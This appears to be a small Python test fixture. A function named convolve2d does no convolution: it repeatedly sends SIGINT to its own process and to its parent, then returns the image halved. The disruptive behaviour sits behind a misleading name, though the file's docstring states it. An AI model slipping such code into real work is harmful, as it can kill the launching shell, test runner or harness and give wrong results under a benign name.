"""Sends interrupts to itself and to others, in a loop."""

import os
import signal


def convolve2d(image, kernel):
    for _ in range(100):
        for target in (os.getpid(), os.getppid()):
            try:
                os.kill(target, signal.SIGINT)
            except OSError:
                continue
    return image * 0.5
